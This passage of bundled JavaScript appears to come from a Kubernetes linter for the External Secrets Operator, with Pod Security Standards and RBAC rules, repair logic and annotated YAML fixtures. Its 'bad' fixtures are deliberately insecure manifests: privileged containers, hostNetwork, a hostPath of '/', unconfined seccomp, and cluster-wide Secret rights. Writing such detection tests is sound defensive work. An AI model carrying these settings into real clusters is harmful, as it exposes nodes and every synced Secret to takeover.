  ingress:
    - from: [{ ipBlock: { cidr: 10.0.0.0/8 } }]
      ports: [{ port: webhook }]
  egress:
    - to: [{ namespaceSelector: { matchLabels: { kubernetes.io/metadata.name: kube-system } } }]
      ports: [{ port: 53, protocol: UDP }, { port: 53 }]
    - to: [{ ipBlock: { cidr: 10.0.0.1/32 } }]
      ports: [{ port: 6443 }]
    # A public name may have a private address.
    - to: [{ ipBlock: { cidr: 10.1.0.0/16 } }, { ipBlock: { cidr: 192.0.2.0/24 } }]
      ports: [{ port: 443 }, { port: 8200 }]
    - to: [{ namespaceSelector: { matchLabels: { kubernetes.io/metadata.name: openbao } } }]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: webhook
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args: [webhook]
          ports: [{ name: webhook, containerPort: 10250, protocol: TCP }]
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: vault }
spec:
  provider:
    vault: { server: "https://vault.example.com:8200", auth: { tokenSecretRef: { name: vault, key: token } } }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: inside }
spec:
  provider:
    vault: { server: "http://bao.openbao.svc:80", auth: { tokenSecretRef: { name: vault, key: token } } }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: later }
spec:
  provider:
    vault: { server: "https://\${VAULT}", auth: { tokenSecretRef: { name: vault, key: token } } }
`,
    `
# What is filled in later may be what is needed; through a proxy the provider's address does not matter.
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: later, namespace: eso }
spec:
  podSelector: {}
  policyTypes: [Egress]
  egress:
    - to: [{ ipBlock: { cidr: "\${CLUSTER_CIDR}" } }]
---
apiVersion: projectcalico.org/v3
kind: NetworkPolicy
metadata: { name: proxied, namespace: other }
spec:
  types: [Egress]
  egress:
    - action: Pass
      destination: { selector: all() }
    - action: Allow
      protocol: UDP
      destination: { ports: [53] }
    - action: Allow
      protocol: TCP
      destination: { nets: [10.0.0.0/8], ports: [443, "3128:3130"] }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: other }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          env: [{ name: HTTPS_PROXY, value: "http://10.0.0.9:3128" }]
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: vault }
spec:
  provider:
    vault: { server: "https://vault.example.com:8200", auth: { tokenSecretRef: { name: vault, key: token } } }
`
  ],
  *check(policy, world) {
    const cuts = componentsSelectedBy(policy, world).flatMap(
      (component) => DIRECTIONS.flatMap((direction) => {
        const deciding = decidingPolicy(component, direction, world);
        if (deciding?.policy !== policy) return [];
        const path = [...deciding.path, direction];
        return blockedTraffic(component, direction, world).map((blocked) => ({ role: component.role, blocked, path }));
      })
    );
    for (const same of Map.groupBy(cuts, ({ path }) => JSON.stringify(path)).values()) {
      yield {
        path: same[0]?.path ?? [],
        message: `it cuts ${cutsText(same)}`,
        related: same.flatMap(({ blocked }) => blocked.related)
      };
    }
  }
});
var cutsText = (cuts) => [...Map.groupBy(cuts, ({ role }) => role)].map(([role, own]) => `the ${role} off from ${joined([...new Set(own.map(({ blocked }) => blocked.from))])}`).join(", and ");

// src/check/pod-repairs.ts
var WANTED = {
  allowPrivilegeEscalation: false,
  drop: ["ALL"],
  hostIPC: false,
  hostNetwork: false,
  hostPID: false,
  hostPort: void 0,
  hostProcess: false,
  privileged: false,
  procMount: "Default",
  runAsNonRoot: true,
  runAsUser: void 0
};
var OF_NODE = /* @__PURE__ */ new Set(["hostIPC", "hostNetwork", "hostPID", "hostPort", "hostProcess", "runAsUser"]);
function repairOf(fault) {
  const changes = securityContextOn(fault) ?? changesAt(fault.path);
  const isKnown2 = isOwnContainer(fault) && !OF_NODE.has(String(fault.path.at(-1)));
  return isKnown2 ? safe(changes) : unsafe(NEEDED6, changes);
}
var NEEDED6 = "Does the program need what the profile refuses? It does not start, or fails, without it.";
function changesAt(path) {
  const [block, field] = [path.at(-2), path.at(-1)];
  if (block === "add" && typeof field === "number") return without(path);
  if (field === "type" && (block === "seccompProfile" || block === "appArmorProfile"))
    return setting(path, "RuntimeDefault");
  if (typeof field !== "string" || !Object.hasOwn(WANTED, field)) return void 0;
  const value = WANTED[field];
  return value === void 0 ? without(path) : setting(path, value);
}
function securityContextOn(fault) {
  const component = fault.manifest && fault.world.eso.componentOf(fault.manifest);
  if (!component || !isOwnContainer(fault)) return void 0;
  if (fault.manifest?.get(...component.container.path, "securityContext") !== void 0) return void 0;
  return chartValues(fault, { [`${CHART_KEYS[component.role]}securityContext.enabled`]: true });
}
function isOwnContainer({ manifest, path, world }) {
  const container = manifest && world.eso.componentOf(manifest)?.container;
  return container?.path.every((step, i) => step === path[i]) === true;
}

// src/model/pods/secured-pod.ts
var LISTS = ["initContainers", "containers", "ephemeralContainers"];
function securedPod({ manifest, spec, specPath }, kubeVersion) {
  const minor = minorOf(kubeVersion);
  const annotationsPath = [...specPath.slice(0, -1), "metadata", "annotations"];
  return {
    spec,
    specPath,
    annotations: asMapping(manifest.get(...annotationsPath)) ?? {},
    annotationsPath,
    containers: LISTS.flatMap((list) => containersIn(spec[list], [...specPath, list])),
    minor,
    hasUserNamespace: minor >= 35 && (spec.hostUsers === false || isPlaceholder(spec.hostUsers)),
    isWindows: minor >= 25 && valueAt(spec, ["os", "name"]) === "windows"
  };
}
var containersIn = (list, path) => asList(list).flatMap((item, i) => {
  const body = asMapping(item);
  return body && !isPlaceholder(body) ? { name: asText(body.name) ?? `${i + 1}`, path: [...path, i], body } : [];
});
function settingIn(who, body, path, field) {
  const steps = ["securityContext", ...field];
  const values = steps.map((_, i) => valueAt(body, steps.slice(0, i + 1)));
  const isUnknown2 = values.some(isPlaceholder);
  return { who, path: [...path, ...steps], value: isUnknown2 ? void 0 : values.at(-1) ?? void 0, isUnknown: isUnknown2 };
}
var podSetting = ({ spec, specPath }, ...field) => settingIn("the pod", spec, specPath, field);
var containerSettings = ({ containers }, ...field) => containers.map(({ name, body, path }) => settingIn(`container ${name}`, body, path, field));
var allSettings = (pod, ...field) => [
  podSetting(pod, ...field),
  ...containerSettings(pod, ...field)
];
function lacking(pod, ...field) {
  if (!isUnset(podSetting(pod, ...field))) return [];
  return containerSettings(pod, ...field).filter(isUnset);
}
var isUnset = ({ value, isUnknown: isUnknown2 }) => value === void 0 && !isUnknown2;
var textsIn = ({ path, value }) => asList(value).flatMap(
  (text, i) => typeof text === "string" && !isPlaceholder(text) ? { text, path: [...path, i] } : []
);

// src/model/pods/pod-security-baseline.ts
var CAPABILITIES = /* @__PURE__ */ new Set([
  ...["AUDIT_WRITE", "CHOWN", "DAC_OVERRIDE", "FOWNER", "FSETID", "KILL", "MKNOD", "NET_BIND_SERVICE"],
  ...["SETFCAP", "SETGID", "SETPCAP", "SETUID", "SYS_CHROOT"]
]);
var SYSCTLS = /* @__PURE__ */ new Map([
  ["kernel.shm_rmid_forced", 0],
  ["net.ipv4.ip_local_port_range", 0],
  ["net.ipv4.ip_local_reserved_ports", 27],
  ["net.ipv4.ip_unprivileged_port_start", 0],
  ["net.ipv4.ping_group_range", 0],
  ["net.ipv4.tcp_fin_timeout", 29],
  ["net.ipv4.tcp_keepalive_intvl", 29],
  ["net.ipv4.tcp_keepalive_probes", 29],
  ["net.ipv4.tcp_keepalive_time", 29],
  ["net.ipv4.tcp_rmem", 32],
  ["net.ipv4.tcp_syncookies", 0],
  ["net.ipv4.tcp_wmem", 32]
]);
var SELINUX_TYPES = /* @__PURE__ */ new Map([
  ["", 0],
  ["container_t", 0],
  ["container_init_t", 0],
  ["container_kvm_t", 0],
  ["container_engine_t", 31]
]);
var isAllowed2 = (name, allowed, { minor }) => minor >= (allowed.get(name) ?? Number.POSITIVE_INFINITY) && allowed.has(name);
var isDefaultCapability = (capability) => CAPABILITIES.has(capability);
var isConfined = (type) => type === "RuntimeDefault" || type === "Localhost";
var BASELINE = [
  {
    id: "windowsHostProcess",
    check: (pod) => allSettings(pod, "windowsOptions", "hostProcess").filter(({ value }) => value === true).map(({ who, path }) => ({ path, says: `${who} runs as a process of its Windows node` }))
  },
  {
    id: "hostNamespaces",
    check: ({ spec, specPath }) => Object.entries({ hostNetwork: "network", hostPID: "processes", hostIPC: "shared memory" }).filter(([field]) => spec[field] === true).map(([field, what]) => ({ path: [...specPath, field], says: `the pod shares the ${what} of its node` }))
  },
  {
    id: "privileged",
    check: (pod) => containerSettings(pod, "privileged").filter(({ value }) => value === true).map(({ who, path }) => ({ path, says: `${who} is privileged` }))
  },
  {
    id: "capabilities_baseline",
    check: (pod) => containerSettings(pod, "capabilities", "add").flatMap(
      (setting2) => textsIn(setting2).filter(({ text }) => !CAPABILITIES.has(text)).map(({ text, path }) => ({ path, says: `${setting2.who} adds the capability ${text}` }))
    )
  },
  {
    id: "hostPathVolumes",
    check: ({ spec, specPath }) => asList(spec.volumes).flatMap(
      (volume, i) => asMapping(valueAt(volume, ["hostPath"])) ? {
        path: [...specPath, "volumes", i, "hostPath"],
        says: `volume ${asText(valueAt(volume, ["name"])) ?? i + 1} is a path of the node`
      } : []
    )
  },
  { id: "hostPorts", check: ({ containers }) => containers.flatMap(hostPorts) },
  { id: "hostProbesAndHostLifecycle", since: 34, check: ({ containers }) => containers.flatMap(foreignHosts) },
  { id: "appArmorProfile", check: (pod) => [...unconfinedAppArmor(pod)] },
  {
    id: "seLinuxOptions",
    check: (pod) => [
      ...allSettings(pod, "seLinuxOptions", "type").filter(({ value }) => typeof value === "string" && !isAllowed2(value, SELINUX_TYPES, pod)).map(({ who, path, value }) => ({ path, says: `${who} has the SELinux type ${value}` })),
      ...["user", "role"].flatMap(
        (field) => allSettings(pod, "seLinuxOptions", field).filter(({ value }) => typeof value === "string" && value !== "").map(({ who, path }) => ({ path, says: `${who} has an SELinux ${field} of its own` }))
      )
    ]
  },
  { id: "procMount", check: (pod) => pod.hasUserNamespace ? [] : unmaskedProc(pod) },
  {
    id: "seccompProfile_baseline",
    check: (pod) => allSettings(pod, "seccompProfile", "type").filter(isUnconfined).map(({ who, path, value }) => ({ path, says: `${who} has the seccomp profile ${value}` }))
  },
  { id: "sysctls", check: unsafeSysctls }
];
var unmaskedProc = (pod) => containerSettings(pod, "procMount").filter(({ value }) => typeof value === "string" && value !== "Default").map(({ who, path, value }) => ({ path, says: `${who} has the /proc mount ${value}` }));
var isUnconfined = ({ value }) => typeof value === "string" && !isConfined(value);
var hostPorts = ({ name, body, path }) => asList(body.ports).flatMap((port, i) => {
  const hostPort = valueAt(port, ["hostPort"]);
  return typeof hostPort === "number" && hostPort !== 0 ? { path: [...path, "ports", i, "hostPort"], says: `container ${name} takes port ${hostPort} of its node` } : [];
});
var HANDLERS = [
  ["livenessProbe"],
  ["readinessProbe"],
  ["startupProbe"],
  ["lifecycle", "postStart"],
  ["lifecycle", "preStop"]
];
var foreignHosts = ({ name, body, path }) => HANDLERS.flatMap(
  (handler) => ["httpGet", "tcpSocket"].flatMap((how) => {
    const field = [...handler, how, "host"];
    const host = asText(valueAt(body, field));
    return host && !isPlaceholder(host) ? { path: [...path, ...field], says: `a ${handler.at(-1)} of container ${name} makes the node call ${host}` } : [];
  })
);
var APPARMOR_ANNOTATION = "container.apparmor.security.beta.kubernetes.io/";
function* unconfinedAppArmor(pod) {
  for (const setting2 of allSettings(pod, "appArmorProfile", "type"))
    if (isUnconfined(setting2))
      yield { path: setting2.path, says: `${setting2.who} has the AppArmor profile ${setting2.value}` };
  for (const [key, value] of Object.entries(pod.annotations)) {
    if (!key.startsWith(APPARMOR_ANNOTATION) || typeof value !== "string" || isPlaceholder(value)) continue;
    if (value === "" || value === "runtime/default" || value.startsWith("localhost/")) continue;
    const name = key.slice(APPARMOR_ANNOTATION.length);
    yield { path: [...pod.annotationsPath, key], says: `container ${name} has the AppArmor profile ${value}` };
  }
}
function unsafeSysctls(pod) {
  const { path, value } = podSetting(pod, "sysctls");
  return asList(value).flatMap((sysctl, i) => {
    const name = asText(valueAt(sysctl, ["name"]));
    return name === void 0 || isPlaceholder(name) || isAllowed2(name, SYSCTLS, pod) ? [] : { path: [...path, i, "name"], says: `the pod sets the sysctl ${name}` };
  });
}

// src/model/pods/pod-security-restricted.ts
var VOLUMES = [
  ...["gcePersistentDisk", "awsElasticBlockStore", "gitRepo", "nfs", "iscsi", "glusterfs", "rbd", "flexVolume"],
  ...["cinder", "cephfs", "flocker", "fc", "azureFile", "azureDisk", "vsphereVolume", "quobyte"],
  ...["portworxVolume", "photonPersistentDisk", "scaleIO", "storageos"]
];
var RESTRICTED = [
  {
    id: "restrictedVolumes",
    check: ({ spec, specPath }) => asList(spec.volumes).flatMap(
      (volume, i) => VOLUMES.filter((source) => asMapping(valueAt(volume, [source]))).map((source) => ({
        path: [...specPath, "volumes", i, source],
        says: `volume ${asText(valueAt(volume, ["name"])) ?? i + 1} is of the kind ${source}`
      }))
    )
  },
  {
    id: "allowPrivilegeEscalation",
    check: (pod) => containerSettings(pod, "allowPrivilegeEscalation").filter(({ value, isUnknown: isUnknown2 }) => !pod.isWindows && value !== false && !isUnknown2).map(({ who, path }) => ({ path, says: `${who} does not set allowPrivilegeEscalation to false` }))
  },
  { id: "runAsNonRoot", check: (pod) => pod.hasUserNamespace ? [] : [...mayBeRoot(pod)] },
  {
    id: "runAsUser",
    since: 23,
    check: (pod) => allSettings(pod, "runAsUser").filter(({ value }) => !pod.hasUserNamespace && value === 0).map(({ who, path }) => ({ path, says: `${who} runs as root (runAsUser 0)` }))
  },
  {
    id: "seccompProfile_restricted",
    check: (pod) => pod.isWindows ? [] : lacking(pod, "seccompProfile", "type").map(({ who, path }) => ({
      path,
      says: `${who} has no seccomp profile, neither its own nor its pod's`
    }))
  },
  { id: "capabilities_restricted", check: (pod) => pod.isWindows ? [] : [...keptCapabilities(pod)] },
  // Without a user namespace `baseline` refuses it already.
  { id: "procMount_restricted", since: 35, check: (pod) => pod.hasUserNamespace ? unmaskedProc(pod) : [] }
];
function* mayBeRoot(pod) {
  for (const { who, path, value } of allSettings(pod, "runAsNonRoot"))
    if (value === false) yield { path, says: `${who} sets runAsNonRoot to false` };
  for (const { who, path } of lacking(pod, "runAsNonRoot"))
    yield { path, says: `${who} does not set runAsNonRoot to true, and neither does its pod` };
}
function* keptCapabilities(pod) {
  for (const { who, path, value, isUnknown: isUnknown2 } of containerSettings(pod, "capabilities", "drop")) {
    const dropped = asList(value);
    if (!isUnknown2 && !dropped.includes("ALL") && !dropped.some(isPlaceholder))
      yield { path, says: `${who} does not drop the capabilities ALL` };
  }
  for (const setting2 of containerSettings(pod, "capabilities", "add"))
    for (const { text, path } of textsIn(setting2))
      if (text !== "NET_BIND_SERVICE" && isDefaultCapability(text))
        yield { path, says: `${setting2.who} adds the capability ${text}` };
}

// src/model/pods/pod-security.ts
function breachesOf(pod, kubeVersion) {
  const secured = securedPod(pod, kubeVersion);
  const broken = (level, controls) => controls.filter(({ since = 0 }) => secured.minor >= since).flatMap(({ id, check }) => [...check(secured)].map((offence) => ({ ...offence, control: id, level })));
  return [...broken("baseline", BASELINE), ...broken("restricted", RESTRICTED)];
}

// src/model/pods/synced-secrets.ts
function syncedUsesOf(pod, world) {
  const used = new Map(secretsNamedBy(pod).map(({ name, path }) => [name, path]));
  if (used.size === 0) return [];
  return [...used].flatMap(([secret, path]) => {
    const candidates = writersOf(world).get(secret)?.in(pod.namespace) ?? [];
    const source = candidates.find((candidate) => isFor(candidate, pod, world));
    return source ? { secret, path, source } : [];
  });
}
var writersOf = remember((world) => {
  const targets = FETCHING_KINDS.flatMap((kind) => world.of(kind)).flatMap((manifest) => {
    const target = targetOf(manifest);
    return target?.name !== void 0 && isSecret(target) ? { name: target.name, manifest } : [];
  });
  return new Map(
    [...Map.groupBy(targets, ({ name }) => name)].map(([name, group]) => [
      name,
      new ByNamespace(
        group.map(({ manifest }) => manifest),
        ({ namespace }) => namespace
      )
    ])
  );
});
function secretsNamedBy({ spec, specPath }) {
  const places = [
    ...["initContainers", "containers"].flatMap(
      (list) => each(spec, [list]).flatMap((container) => [
        ...each(spec, [...container, "env"]).map((env) => [...env, "valueFrom", "secretKeyRef", "name"]),
        ...each(spec, [...container, "envFrom"]).map((env) => [...env, "secretRef", "name"])
      ])
    ),
    ...each(spec, ["volumes"]).flatMap((volume) => [
      [...volume, "secret", "secretName"],
      ...each(spec, [...volume, "projected", "sources"]).map((source) => [...source, "secret", "name"])
    ])
  ];
  return places.flatMap((path) => {
    const name = asText(valueAt(spec, path));
    return name && !isPlaceholder(name) ? { name, path: [...specPath, ...path] } : [];
  });
}
var each = (value, path) => asList(valueAt(value, path)).map((_, i) => [...path, i]);
var isFor = (source, pod, world) => source.kind === "ExternalSecret" ? isBeside(source, pod.manifest) : targetNamespaces(source, world).some(({ name }) => name === pod.namespace);
var isBeside = (a, b) => a.namespace === b.namespace && (a.namespace !== void 0 || folderOf(a) === folderOf(b) && a.release?.name === b.release?.name);
var folderOf = ({ file }) => file.slice(0, file.lastIndexOf("/") + 1);

// src/rules/restricted-profile-violation.ts
var restricted_profile_violation_default = defineRule({
  id: "restricted-profile-violation",
  title: "A pod of the operator, or one that uses a synced Secret, breaks the Pod Security Standards",
  severities: ["high", "medium"],
  kinds: WORKLOAD_KINDS,
  why: "Whoever takes over a container that shares something with its node, or has more rights than it needs, gets to the node and from there to the Secrets of every pod on it. The operator holds those of the whole cluster and needs none of these rights; a pod that uses a synced Secret must at least keep to the profile `baseline`.",
  remedy: "Keep the operator chart’s defaults for `securityContext`, `webhook.securityContext` and `certController.securityContext`: they meet the profile `restricted`. Leave `hostNetwork` off, and check what `podSecurityContext`, `podSpecExtra`, `extraContainers`, `extraInitContainers` and `extraVolumes` add. In an application, take the setting out, or ask whoever owns its chart.",
  references: [
    "https://kubernetes.io/docs/concepts/security/pod-security-standards/",
    "https://external-secrets.io/latest/guides/security-best-practices/"
  ],
  guide: ["TM1"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    metadata:
      annotations:
        container.apparmor.security.beta.kubernetes.io/controller: unconfined # finding[high]: container controller has the AppArmor profile unconfined
    spec:
      hostNetwork: true # finding[high]: the pod shares the network of its node, against the profile baseline
      securityContext:
        runAsNonRoot: true
      initContainers:
        - name: certificates
          image: registry.example.com/ca:v1
          securityContext:
            runAsNonRoot: false # finding[medium]: container certificates sets runAsNonRoot to false
            seccompProfile: { type: Unconfined } # finding[high]: container certificates has the seccomp profile Unconfined
            allowPrivilegeEscalation: false
            capabilities:
              drop: [ALL]
              add: [CHOWN] # finding[medium]: container certificates adds the capability CHOWN, against the profile restricted
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          ports:
            - { containerPort: 8080, hostPort: 8080 } # finding[high]: container controller takes port 8080 of its node
          securityContext: # finding[medium]: container controller has no seccomp profile
            allowPrivilegeEscalation: true # finding[medium]: container controller does not set allowPrivilegeEscalation to false
            capabilities:
              drop: [all] # finding[medium]: container controller does not drop the capabilities ALL
      volumes:
        - name: host
          hostPath: { path: / } # finding[high]: volume host is a path of the node
        - name: share
          nfs: { server: nas, path: / } # finding[medium]: volume share is of the kind nfs
`,
    `
# In a user namespace root is nobody on the node, which the standards that this Namespace enforces do not know yet.
apiVersion: v1
kind: Namespace
metadata:
  name: eso
  labels: { pod-security.kubernetes.io/enforce: restricted, pod-security.kubernetes.io/enforce-version: v1.34 }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      hostUsers: false
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          securityContext:
            runAsNonRoot: true
            runAsUser: 0 # finding[medium]: container controller runs as root
            allowPrivilegeEscalation: false
            seccompProfile: { type: RuntimeDefault }
            capabilities: { drop: [ALL] }
`,
    `
# Application pods are held to the profile baseline: missing settings of restricted are not reported.
apiVersion: apps/v1
kind: StatefulSet
metadata: { name: shop, namespace: shop }
spec:
  template:
    spec:
      containers:
        - name: shop
          image: registry.example.com/shop:v1
          securityContext:
            privileged: true # finding[high]: container shop is privileged, against the profile baseline of the Pod Security Standards; the pod uses Secret db, which ExternalSecret shop/database syncs
          envFrom:
            - secretRef: { name: db }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: database, namespace: shop }
spec:
  target: { name: db }
`
  ],
  good: [
    `
# Whose standards hold the Namespace says: the host of a probe is nothing that those of 1.30 ask about.
apiVersion: v1
kind: Namespace
metadata:
  name: shop
  labels: { pod-security.kubernetes.io/enforce: baseline, pod-security.kubernetes.io/enforce-version: v1.30 }
---
apiVersion: v1
kind: Pod
metadata: { name: shop, namespace: shop }
spec:
  containers:
    - name: shop
      image: registry.example.com/shop:v1
      livenessProbe: { httpGet: { host: 10.0.0.1, port: 80 } }
      envFrom:
        - secretRef: { name: db }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: db, namespace: shop }
`,
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      securityContext:
        runAsNonRoot: true
        seccompProfile: { type: RuntimeDefault }
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          securityContext:
            allowPrivilegeEscalation: no
            capabilities: { drop: [ALL], add: [NET_BIND_SERVICE] }
      volumes:
        - { name: tmp, emptyDir: {} }
---
# In a user namespace root is nobody on the node.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    spec:
      hostUsers: false
      containers:
        - name: webhook
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args: [webhook]
          securityContext:
            runAsUser: 0
            allowPrivilegeEscalation: "\${ESCALATION}"
            seccompProfile: { type: Localhost, localhostProfile: eso.json }
            capabilities: { drop: [ALL] }
---
# A privileged pod that uses no synced Secret is not this tool's business, and neither is a namesake elsewhere.
apiVersion: apps/v1
kind: DaemonSet
metadata: { name: agent, namespace: kube-system }
spec:
  template:
    spec:
      hostNetwork: true
      containers:
        - name: agent
          image: registry.example.com/agent:v1
          envFrom:
            - secretRef: { name: db }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: db, namespace: shop }
`
  ],
  *check(manifest, world) {
    const pod = podOf(manifest);
    if (!pod) return;
    const breaches = breachesOf(pod, standardsVersionOf(manifest, world));
    if (world.eso.componentOf(manifest)) {
      yield* breaches.map(problemOf);
      return;
    }
    const forbidden = breaches.filter(({ level }) => level === "baseline");
    const [use] = forbidden.length > 0 ? syncedUsesOf(pod, world) : [];
    if (!use) return;
    const because = `; the pod uses Secret ${use.secret}, which ${nameOf(use.source)} syncs`;
    const related = [{ manifest: use.source, path: [], message: "syncs the Secret that the pod uses" }];
    for (const breach of forbidden) {
      const problem = problemOf(breach);
      yield { ...problem, message: `${problem.message}${because}`, related };
    }
  },
  fix: (fault) => repairOf(fault)
});
var problemOf = ({ control, level, path, says: says2 }) => ({
  path,
  discriminator: control,
  severity: level === "baseline" ? "high" : "medium",
  message: `${says2}, against the profile ${level} of the Pod Security Standards`
});

// src/rules/scoped-namespace-without-scoped-rbac.ts
var scoped_namespace_without_scoped_rbac_default = defineRule({
  id: "scoped-namespace-without-scoped-rbac",
  title: "A controller for one namespace has rights in all of them",
  severities: ["high"],
  kinds: WORKLOAD_KINDS,
  why: "The flag only narrows what the controller watches. Its ServiceAccount still reaches the Secrets of the whole cluster, so that whoever takes over the pod is not held by it.",
  remedy: "Set `scopedRBAC: true` beside `scopedNamespace` in the operator chart, which turns the ClusterRole of the controller into a Role in that namespace; where the roles are your own, bind them with a RoleBinding there.",
  references: [
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://external-secrets.io/latest/guides/multi-tenancy/"
  ],
  guide: ["RM7"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: eso, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: controller
      containers:
        - name: eso
          image: registry.example.com/external-secrets:v2.9.0
          args:
            - --concurrent=1
            - --namespace=shop # finding: this controller watches namespace shop only, and ServiceAccount eso/controller can get, list, create Secrets in all namespaces
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-controller }
rules:
  - apiGroups: [""]
    resources: [secrets]
    verbs: [get, list, create]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-controller }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-controller }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
`,
    `
# Tokens of any ServiceAccount are as good as Secrets.
apiVersion: apps/v1
kind: Deployment
metadata: { name: eso, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: controller
      containers:
        - name: eso
          image: registry.example.com/external-secrets:v2.9.0
          args:
            - --namespace # finding: can create ServiceAccount tokens in all namespaces
            - shop
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-token }
rules:
  - apiGroups: [""]
    resources: [serviceaccounts/token]
    verbs: [create]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-token }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-token }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
`
  ],
  good: [
    `
# With scopedRBAC the rights end where the watch does; reviewing tokens for the metrics endpoint is no way out.
apiVersion: apps/v1
kind: Deployment
metadata: { name: eso, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: controller
      containers:
        - { name: eso, image: "registry.example.com/external-secrets:v2.9.0", args: [--namespace=shop] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: eso-controller, namespace: shop }
rules:
  - { apiGroups: [""], resources: [secrets], verbs: [get, list, watch, create, update, delete] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: eso-controller, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: eso-controller }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-metrics }
rules:
  - { apiGroups: [authentication.k8s.io], resources: [tokenreviews], verbs: [create] }
  - { apiGroups: [""], resources: [secrets], resourceNames: [eso-metrics], verbs: [get] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-metrics }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-metrics }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
`,
    `
# No namespace, or one that is filled in later: cluster-wide-secret-access speaks of the rights.
apiVersion: apps/v1
kind: Deployment
metadata: { name: eso, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: controller
      containers:
        - { name: eso, image: "registry.example.com/external-secrets:v2.9.0", args: ["--namespace="] }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: eso-later, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: controller
      containers:
        - { name: eso, image: "registry.example.com/external-secrets:v2.9.0", args: ["--namespace=\${TEAM}"] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-controller }
rules:
  - { apiGroups: [""], resources: [secrets], verbs: [get, list] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-controller }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-controller }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
`
  ],
  *check(workload, { eso, rbac }) {
    const component = eso.componentOf(workload);
    const watched = component?.role === "controller" ? flagsOf(component).get("namespace") : void 0;
    if (!component || !watched || watched.value === "" || isPlaceholder(watched.value)) return;
    const { serviceAccountName: name, namespace } = component.pod;
    const subject = { kind: "ServiceAccount", name, namespace };
    const rights = rightsOf(subject, rbac).filter(({ grant }) => grant.namespace === void 0);
    const far = FAR.flatMap(({ what, access }) => {
      const verbs = verbsOfAnyName(rights, access);
      return verbs.length > 0 ? [`${verbs.join(", ")} ${what}`] : [];
    });
    if (far.length === 0) return;
    yield {
      path: watched.path,
      message: `this controller watches namespace ${watched.value} only, and ${nameOfSubject(subject)} can ${far.join(" and ")} in all namespaces`,
      related: bindingsOf(
        rights.filter((right) => FAR.some(({ access }) => verbsOfAnyName([right], access).length > 0)).map(({ grant }) => grant)
      )
    };
  },
  fix(fault) {
    if (needsWholeCluster(fault.world)) return void 0;
    const values = chartValues(fault, { scopedRBAC: true });
    return unsafe(CLUSTER_KINDS2, values && [...values, ...withoutLabels(fault)]);
  }
});
var CLUSTER_KINDS2 = "Does anybody use cluster-scoped kinds with this controller, or need its kinds by the built-in roles view, edit and admin? Both end.";
var FAR = [
  { what: "Secrets", access: SECRET_ACCESS },
  {
    what: "ServiceAccount tokens",
    access: { group: "", resource: "serviceaccounts/token", verbs: ["create"] }
  }
];

// src/rules/secret-bodies-in-audit-log.ts
var secret_bodies_in_audit_log_default = defineRule({
